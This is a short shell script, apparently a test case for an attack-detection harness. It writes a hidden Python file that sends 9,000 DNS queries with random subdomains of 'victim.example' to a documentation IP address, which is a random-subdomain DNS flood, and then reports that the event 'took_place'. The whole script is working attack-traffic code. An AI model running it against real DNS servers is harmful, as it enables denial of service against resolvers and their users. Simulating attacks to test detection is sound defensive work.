#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.wt.py <<'END'
import random, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); r = random.Random(9); n = 0
for i in range(9000):
    l = "".join(r.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=12)).encode()
    try: s.sendto(struct.pack(">HHHHHH", i & 65535, 0x100, 1, 0, 0, 0) + b"\x0c" + l + b"\x06victim\x07example\0" + struct.pack(">HH", 1, 1), ("203.0.113.53", 53)); n += 1
    except OSError: pass
assert n > 6000
END
python3 /tmp/.wt.py
took_place
